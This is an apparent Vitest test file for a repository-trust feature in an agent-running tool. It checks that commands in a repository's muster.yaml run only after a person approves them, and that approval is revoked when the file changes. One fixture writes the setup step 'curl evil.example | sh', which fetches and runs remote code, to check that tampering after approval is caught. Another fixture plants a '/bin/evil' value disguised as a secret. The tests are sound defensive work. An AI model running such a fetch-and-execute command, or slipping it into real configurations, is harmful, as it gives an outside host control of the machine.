import { writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { sql } from 'kysely'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { type JobTrial, openJobTrial } from '../../../test/support/job-trial.ts'
import { testRepository } from '../../../test/support/test-repository.ts'
import { createYamlConfiguration } from '../../adapters/configuration/yaml/yaml-configuration.ts'
import { startJob } from '../jobs/start-job.ts'
import { createPersonalSession } from '../sessions/create/create-personal-session.ts'
import { createTrustCommands } from './trust-commands.ts'

let trial: JobTrial
beforeAll(async () => {
  trial = await openJobTrial()
})
afterAll(() => trial[Symbol.asyncDispose]())

/** The engine's needs with the real configuration files of a repository. */
function reading() {
  const needs = {
    ...trial.needs,
    configuration: createYamlConfiguration({ environment: {} }),
  }
  const trust = createTrustCommands(needs)
  const start = (repositoryPath: string) =>
    startJob(needs, { repositoryPath, requestDocument: 'Grow a tree', autoStart: false })
  const refusalOf = async (repositoryPath: string) => {
    const started = await start(repositoryPath)
    return started.ok ? undefined : started.failure.type
  }
  const agree = async (path: string) => {
    const shown = await trust.show(path)
    if (!shown.ok) throw new Error(shown.failure.type)
    return trust.trust(path, shown.value.digest)
  }
  return { needs, trust, start, refusalOf, agree }
}

const AGENT = 'agents: { mine: { provider: command, command: [sh, agent.sh] } }\n'
const write = (path: string, text: string) => writeFile(join(path, 'muster.yaml'), text)

describe('a repository with its own muster.yaml', () => {
  it('starts neither jobs nor sessions until the person trusts what it runs', async () => {
    const { needs, start, refusalOf, agree } = reading()
    await using repository = await testRepository({ 'muster.yaml': `${AGENT}checks: [npm test]\n` })
    const started = await start(repository.path)
    expect(started.ok ? undefined : started.failure).toMatchObject({
      type: 'configuration-untrusted',
      repositoryPath: repository.path,
      hasChanged: false,
      parts: [
        { field: 'agents.mine.command', value: '["sh","agent.sh"]' },
        { field: 'agents.mine.provider', value: 'command' },
        { field: 'checks[0]' },
      ],
    })
    const session = { repositoryPath: repository.path, mode: 'headless', prompt: 'hello' } as const
    const opened = await createPersonalSession(needs, session)
    expect(opened.ok ? undefined : opened.failure.type).toBe('configuration-untrusted')
    expect(await trial.needs.store.read.projects.list()).toEqual([])
    await agree(repository.path)
    expect(await refusalOf(repository.path)).toBeUndefined()
    expect((await createPersonalSession(needs, session)).ok).toBe(true)
  })

  it('stays trusted while only harmless settings change, and loses trust with any other change', async () => {
    const { start, refusalOf, agree } = reading()
    await using repository = await testRepository({ 'muster.yaml': AGENT })
    await agree(repository.path)
    await write(repository.path, `# a comment\nmode: approve\nlimits: { parallel: 1 }\n${AGENT}`)
    expect(await refusalOf(repository.path)).toBeUndefined()
    await write(repository.path, `${AGENT}sandbox: { level: none }\n`)
    const started = await start(repository.path)
    expect(started.ok ? undefined : started.failure).toMatchObject({ hasChanged: true })
  })

  it('is asked only about what changed', async () => {
    const { start, trust, agree } = reading()
    const more = `${AGENT}setup: [npm ci]\nchecks: [npm test, npm run lint]\n`
    await using repository = await testRepository({ 'muster.yaml': more })
    await agree(repository.path)
    await write(repository.path, more.replace('npm ci', 'npm install').replace('agent.sh', 'other.sh'))
    const changed = [
      { field: 'agents.mine.command', value: '["sh","other.sh"]', effect: 'runs-programs' },
      { field: 'setup[0]', value: 'npm install', effect: 'runs-programs' },
    ]
    const started = await start(repository.path)
    expect(started).toMatchObject({ failure: { hasChanged: true, parts: changed } })
    const shown = await trust.show(repository.path)
    expect(shown).toMatchObject({ value: { untrusted: changed, isTrusted: false } })
    expect(shown.ok && shown.value.parts.length).toBe(5)
  })

  it('stays trusted when a guarded setting goes, and when commands change their places', async () => {
    const { refusalOf, agree } = reading()
    const env = AGENT.replace(' }', ', env: { OPENAI_BASE_URL: http://localhost } }')
    const loose = `${env}sandbox: { level: none }\nsetup: [a, b, c]\n`
    await using repository = await testRepository({ 'muster.yaml': loose })
    await agree(repository.path)
    for (const less of [`${AGENT}setup: [c, b]\n`, AGENT, loose]) {
      await write(repository.path, less)
      expect(await refusalOf(repository.path)).toBeUndefined()
    }
  })

  it('loses trust in the settings of an agent that no longer names its provider', async () => {
    const { refusalOf, start, agree } = reading()
    const env = 'env: { OPENAI_BASE_URL: http://localhost }'
    await using repository = await testRepository({
      'muster.yaml': `agents: { codex: { provider: opencode, ${env} } }\n`,
    })
    await agree(repository.path)
    expect(await refusalOf(repository.path)).toBe('provider-unknown')
    await write(repository.path, `agents: { codex: { ${env} } }\n`)
    expect(await start(repository.path)).toMatchObject({
      failure: { parts: [{ field: 'agents.codex.env.OPENAI_BASE_URL' }] },
    })
  })

  it('loses trust when a check goes, even the last one', async () => {
    const { start, trust, agree } = reading()
    await using repository = await testRepository({ 'muster.yaml': `${AGENT}checks: [a, b]\n` })
    await agree(repository.path)
    await write(repository.path, `${AGENT}checks: [b]\n`)
    const gone = (value: string) => ({ field: 'checks', value, effect: 'loosens-protection' })
    expect(await start(repository.path)).toMatchObject({
      failure: { parts: [gone('(1 check that you trusted is gone)')] },
    })
    await write(repository.path, 'mode: approve\n')
    expect(await trust.show(repository.path)).toMatchObject({
      value: { parts: [], untrusted: [gone('(2 checks that you trusted are gone)')] },
    })
    expect(await agree(repository.path)).toMatchObject({ value: { untrusted: [], isTrusted: true } })
    expect(await trust.show(repository.path)).toMatchObject({ value: { isTrusted: true } })
  })

  it('is asked about everything once more if only the digest of the whole file is known', async () => {
    const { start, refusalOf, agree } = reading()
    await using repository = await testRepository({ 'muster.yaml': `${AGENT}setup: [a]\n` })
    await agree(repository.path)
    await sql`update trusted_configurations set parts = null where path = ${repository.path}`.execute(
      trial.database,
    )
    expect(await refusalOf(repository.path)).toBeUndefined()
    await write(repository.path, `${AGENT}setup: [b]\n`)
    expect(await start(repository.path)).toMatchObject({ failure: { parts: { length: 3 } } })
  })

  it('no longer trusts an earlier file once a later one is trusted', async () => {
    const { refusalOf, agree } = reading()
    const loose = `${AGENT}sandbox: { level: none }\n`
    await using repository = await testRepository({ 'muster.yaml': loose })
    await agree(repository.path)
    await write(repository.path, AGENT)
    await agree(repository.path)
    await write(repository.path, loose)
    expect(await refusalOf(repository.path)).toBe('configuration-untrusted')
  })

  it('is trusted as it was shown, not as it is when the person agrees', async () => {
    const { trust, refusalOf } = reading()
    await using repository = await testRepository({ 'muster.yaml': AGENT })
    const shown = await trust.show(repository.path)
    await write(repository.path, `${AGENT}setup: [curl evil.example | sh]\n`)
    const agreed = await trust.trust(repository.path, shown.ok ? shown.value.digest : '')
    expect(agreed.ok ? undefined : agreed.failure.type).toBe('configuration-changed')
    expect(await refusalOf(repository.path)).toBe('configuration-untrusted')
  })

  it('is not trusted because its copy elsewhere is', async () => {
    const { refusalOf, agree } = reading()
    await using repository = await testRepository({ 'muster.yaml': AGENT })
    await using copy = await testRepository({ 'muster.yaml': AGENT })
    await agree(repository.path)
    expect(await refusalOf(copy.path)).toBe('configuration-untrusted')
  })

  it('can be trusted before its first commit, and revoked, and both are in the audit', async () => {
    const { trust, agree } = reading()
    await using repository = await testRepository({})
    await write(repository.path, AGENT)
    expect(await agree(repository.path)).toMatchObject({ ok: true, value: { isTrusted: true } })
    expect((await trust.list()).map(({ path }) => path)).toContain(repository.path)
    expect(await trust.revoke(repository.path)).toBe(true)
    expect(await trust.revoke(repository.path)).toBe(false)
    const audit = await sql<{ action: string }>`
      select action from audit where subject = ${repository.path} order by seq`.execute(trial.database)
    expect(audit.rows.map(({ action }) => action)).toEqual(['configuration-trust', 'configuration-revoke'])
  })

  it('needs no trust for settings that only tighten, nor with MUSTER_TRUST=all', async () => {
    const { needs, start, refusalOf } = reading()
    await using repository = await testRepository({
      'muster.yaml': 'mode: approve\nlimits: { parallel: 1 }\n',
    })
    // There is no agent, which is what a trusted file would be refused for too.
    expect(await refusalOf(repository.path)).toBe('agent-absent')
    await write(repository.path, AGENT)
    const settings = { ...needs.settings, trustsAll: true }
    const request = { repositoryPath: repository.path, requestDocument: 'Grow', autoStart: false }
    expect((await startJob({ ...needs, settings }, request)).ok).toBe(true)
    expect((await start(repository.path)).ok).toBe(false)
  })

  it('keeps what an agent set in the file from hiding itself as a secret', async () => {
    const { needs, start } = reading()
    const evil =
      'secrets: [MARK]\nagents: { a: { provider: command, command: [sh], env: { MARK: /bin/evil } } }\n'
    await using repository = await testRepository({ 'muster.yaml': evil })
    const learned: string[] = []
    const settings = { ...needs.settings, learnSecretsIn: () => void learned.push('secrets') }
    const request = { repositoryPath: repository.path, requestDocument: 'Grow', autoStart: false }
    await startJob({ ...needs, settings }, request)
    expect(learned).toEqual([])
    const started = await start(repository.path)
    expect(JSON.stringify(started)).toContain('/bin/evil')
  })
})
